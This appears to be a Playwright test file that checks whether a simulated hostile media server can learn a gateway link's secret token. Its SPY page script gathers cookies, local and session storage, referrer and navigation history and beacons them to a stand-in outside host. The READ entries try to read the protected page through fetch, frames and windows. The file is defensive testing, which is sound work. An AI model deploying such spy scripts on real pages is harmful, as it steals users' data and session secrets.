"""The link's token: what scripts of a hostile media server try to learn it, or to use the entry page."""

from __future__ import annotations

import asyncio
import json

import pytest
from playwright.async_api import BrowserContext, Page

from tests.browser.hostile import ITEM, PAGE, Said, Stage, enter, opened, send_form
from tests.browser.test_cookies import BOMB

pytestmark = pytest.mark.browser

# Tells a server elsewhere everything that a page can see of where its browser has been, is, and goes.
SPY = """<!doctype html><title>media</title><script>
const tell = (what, seen) => navigator.sendBeacon('ELSEWHERE', JSON.stringify([what, seen ?? null]));
const look = when => {
    tell(when, [
        location.href, document.referrer, document.cookie, name, opener && 'an opener', history.state, document.URL,
        navigation.entries().map(entry => [entry.url, entry.getState()]), navigation.currentEntry.url,
        navigation.activation && [navigation.activation.from, navigation.activation.entry].map(one => one && one.url),
        performance.getEntries().map(entry => entry.toJSON()), {...localStorage}, {...sessionStorage},
    ]);
};
look('here');
onload = () => setTimeout(look, 0, 'loaded');
onpageshow = () => look('shown');
addEventListener('pagereveal', () => look('reveal'));
addEventListener('pagehide', () => look('hidden'));
addEventListener('pageswap', ({activation}) =>
    tell('swap', activation && [activation.entry, activation.from].map(one => one && one.url)));
navigation.addEventListener('navigate', ({destination, navigationType}) =>
    tell('navigate', [navigationType, destination.url, destination.getState()]));
navigation.addEventListener('navigateerror', ({message, filename}) => tell('error', [message, filename]));
</script>"""


def _watched(hostile: Stage, *, headers: dict[str, str] | None = None) -> None:
    spy = SPY.replace("ELSEWHERE", hostile.at("elsewhere.localhost", "/tell"))
    hostile.hostile.answers[PAGE] = Said(spy, headers=headers or {})


def _told(hostile: Stage) -> list[list[object]]:
    return [json.loads(body) for body in hostile.site.bodies]


async def _go(page: Page, how: str) -> None:
    async with page.expect_navigation():
        await page.evaluate(f"() => {{ {how}; }}")


@pytest.mark.parametrize("policy", ["", "same-origin", "same-origin-allow-popups"])
async def test_no_page_learns_the_token(hostile: Stage, victim: BrowserContext, policy: str) -> None:
    """Coming in, going back as often as it likes, being there when the link is opened again."""
    _watched(hostile, headers={"Cross-Origin-Opener-Policy": policy} if policy else {})
    page = await victim.new_page()
    link = await hostile.link()
    token = link.rpartition("/")[2]
    await enter(page, link)
    for how in ("history.back()", "history.forward()", "navigation.back()", "history.go(1)", "history.go(-1)"):
        await _go(page, how)
        await page.wait_for_url(f"**{PAGE}")
    await page.goto(link)
    await page.wait_for_url(f"**{PAGE}")
    await page.goto(f"{hostile.url}/g/")
    await page.go_back()
    await asyncio.sleep(0.3)
    told = _told(hostile)
    assert {"here", "loaded", "shown", "hidden", "swap", "navigate"} <= {str(what) for what, _ in told}
    assert token not in json.dumps(told)
    assert token not in json.dumps(hostile.hostile.heads)
    assert token not in json.dumps(hostile.site.heads)


async def test_choosing_a_language_tells_no_page_the_token(hostile: Stage, victim: BrowserContext) -> None:
    """On the form, and before there was one: while the link was off."""
    _watched(hostile)
    page = await victim.new_page()
    link = await hostile.link()
    token = link.rpartition("/")[2]
    await hostile.running.switch(ITEM, on=False)
    await page.goto(link)
    await _choose(page, "Deutsch", link)
    await hostile.running.switch(ITEM, on=True)
    await page.reload()
    await _choose(page, "עברית", link)
    await send_form(page)
    await page.wait_for_url(f"**{PAGE}")
    for how in ("history.back()", "history.forward()"):
        await _go(page, how)
        await page.wait_for_url(f"**{PAGE}")
    await page.evaluate("() => { setTimeout(() => history.go(-2)) }")  # where a place too many would be
    await asyncio.sleep(0.5)
    told = _told(hostile)
    assert {"here", "loaded", "navigate"} <= {str(what) for what, _ in told}
    assert token not in json.dumps(told)


async def test_having_a_name_forgotten_tells_no_page_the_token(hostile: Stage, victim: BrowserContext) -> None:
    """What comes next is the same page, in another place of the history."""
    page = await victim.new_page()
    await page.goto(await hostile.link())
    await page.locator("#remember").check()
    await send_form(page)
    await page.wait_for_url(f"**{PAGE}")
    _watched(hostile)
    link = await hostile.link()
    token = link.rpartition("/")[2]
    await page.goto(link)
    async with page.expect_navigation():
        await page.locator("button[name=forget]").click(timeout=10_000)
    assert page.url == link
    assert await page.locator("input[name=name]").input_value() == ""
    await send_form(page)
    await page.wait_for_url(f"**{PAGE}")
    await page.evaluate("() => { setTimeout(() => history.go(-2)) }")
    await asyncio.sleep(0.5)
    told = _told(hostile)
    assert {"here", "navigate"} <= {str(what) for what, _ in told}
    assert token not in json.dumps(told)


async def _choose(page: Page, language: str, link: str) -> None:
    await page.locator(".languages summary").click()
    async with page.expect_navigation():
        await page.get_by_role("link", name=language).click()
    assert page.url == link


async def test_back_leads_to_the_media(hostile: Stage, victim: BrowserContext) -> None:
    page = await victim.new_page()
    await enter(page, await hostile.link())
    await page.go_back()
    assert page.url == hostile.url + PAGE
    await page.reload()
    assert page.url == hostile.url + PAGE


async def test_back_after_leaving_leads_nowhere(hostile: Stage, victim: BrowserContext) -> None:
    page = await victim.new_page()
    await enter(page, await hostile.link())
    await page.evaluate("fetch('/_gateway/leave', {method: 'POST'})")
    answer = await page.go_back()
    assert answer is not None
    assert (answer.status, page.url) == (403, f"{hostile.url}/_gateway/back")


async def test_a_form_that_comes_back_works_as_before(hostile: Stage, victim: BrowserContext) -> None:
    page = await victim.new_page()
    link = await hostile.link()
    await page.goto(link)
    await page.locator("form button").click()
    await page.locator("#email-error").wait_for()
    assert page.url == link
    answer = await page.reload()  # posts again
    assert answer is not None
    assert answer.status == 422
    await page.goto("about:blank")
    await enter(page, link)
    assert await hostile.clicks(link) == 1


async def test_without_scripts_the_form_works_as_well(hostile: Stage, victim: BrowserContext) -> None:
    assert victim.browser is not None
    context = await victim.browser.new_context(java_script_enabled=False)
    await enter(await context.new_page(), await hostile.link())


@pytest.mark.parametrize("policy", ["", "same-origin"])
@pytest.mark.parametrize("instead", ["the form", "cookies too long"])
async def test_no_window_of_the_servers_sees_the_entry_page(
    hostile: Stage, victim: BrowserContext, policy: str, instead: str
) -> None:
    """A window that a page has opened keeps its opener while this goes elsewhere, within one origin."""
    _watched(hostile, headers={"Cross-Origin-Opener-Policy": policy} if policy else {})
    page = await victim.new_page()
    link = await hostile.link()
    await enter(page, link)
    windows = []
    for address in ("about:blank", PAGE):
        async with victim.expect_page() as got:
            await page.evaluate("address => { window.open(address) }", address)
        windows.append(await got.value)
    look = "(() => { try { return opener && !opener.closed && String(opener.location.href) } catch { return null } })()"
    for window in windows:
        assert await window.evaluate(look) == hostile.url + PAGE  # the control: before, it sees all
    if instead == "the form":
        await page.evaluate("fetch('/_gateway/leave', {method: 'POST'})")
        assert (await opened(page, link)).status == 200
    else:
        await page.evaluate(BOMB, [3, "/"])
        assert (await opened(page, link)).status == 431
    assert page.url == link
    for window in windows:
        assert not await window.evaluate(look)


READ = {
    "fetch": "fetch(link, {credentials: 'include'}).then(answer => answer.text())",
    "fetch as a page": "fetch(link, {headers: {Accept: 'text/html'}}).then(answer => answer.text())",
    "HEAD": "fetch(link, {method: 'HEAD'}).then(answer => String(answer.ok && 'answered'))",
    "POST": "fetch(link, {method: 'POST', body: new URLSearchParams({name: 'x', email: 'x@y.example'})})"
    ".then(answer => answer.text())",
    "XMLHttpRequest": "new Promise(tell => { const ask = new XMLHttpRequest(); ask.open('GET', link);"
    " ask.onloadend = () => tell(ask.responseText); ask.send() })",
    "a frame": "new Promise(tell => { const frame = document.createElement('iframe'); frame.src = link; frame.onload ="
    " () => { try { tell(frame.contentDocument.documentElement.outerHTML) } catch (e) { tell(String(e)) } };"
    " document.body.append(frame); setTimeout(tell, 3000, 'nothing') })",
    "an object": "new Promise(tell => { const part = document.createElement('object'); part.data = link; part.onload ="
    " () => { try { tell(part.contentDocument.documentElement.outerHTML) } catch (e) { tell(String(e)) } };"
    " part.onerror = () => tell('error'); document.body.append(part); setTimeout(tell, 3000, 'nothing') })",
    "a script": "new Promise(tell => { const part = document.createElement('script'); part.src = link; part.onload ="
    " () => tell('answered'); part.onerror = () => tell('error'); document.body.append(part) })",
    "a window": "new Promise(tell => { const other = open(link); setTimeout(() => { try {"
    " tell(other.document.documentElement.outerHTML + other.location) } catch (e) { tell(String(e)) } }, 1500) })",
}


@pytest.mark.parametrize("known", [False, True], ids=["stranger", "guest"])
async def test_no_script_reads_the_entry_page_or_comes_in_by_it(
    hostile: Stage, victim: BrowserContext, known: bool
) -> None:
    """Of a link that it has learnt elsewhere; on this host it is no other site."""
    link, other = await hostile.link(), await hostile.running.make_link("xyz789")
    page = await victim.new_page()
    await enter(page, link)
    aim = link if known else other
    for way, script in READ.items():
        read = await page.evaluate(f"link => {script}", aim)
        for word in ("<form", "/_gateway/static", aim, "answered", "<h1>media"):
            assert word not in read, way
    assert await hostile.clicks(other) == 0
    assert await hostile.clicks(link) == 1


async def test_a_look_ahead_admits_nobody(hostile: Stage, victim: BrowserContext) -> None:
    """What a page lets the browser fetch or draw in advance, of the link of one who is in."""
    page = await victim.new_page()
    link = await hostile.link()
    await enter(page, link)
    # On another page: what is fetched ahead would lead back to the one that is open.
    hostile.hostile.asked.clear()
    rules = {kind: [{"source": "list", "urls": [link], "eagerness": "immediate"}] for kind in ("prefetch", "prerender")}
    await page.evaluate(
        """([link, rules]) => {
            const head = document.head;
            head.append(Object.assign(document.createElement('script'),
                {type: 'speculationrules', textContent: JSON.stringify(rules)}));
            head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: link}));
        }""",
        [link, rules],
    )
    await asyncio.sleep(2)
    assert hostile.hostile.asked == []
    assert 'gateway_admissions_total{result="returned"} 0.0' in hostile.running.gateway.metrics.text().decode()
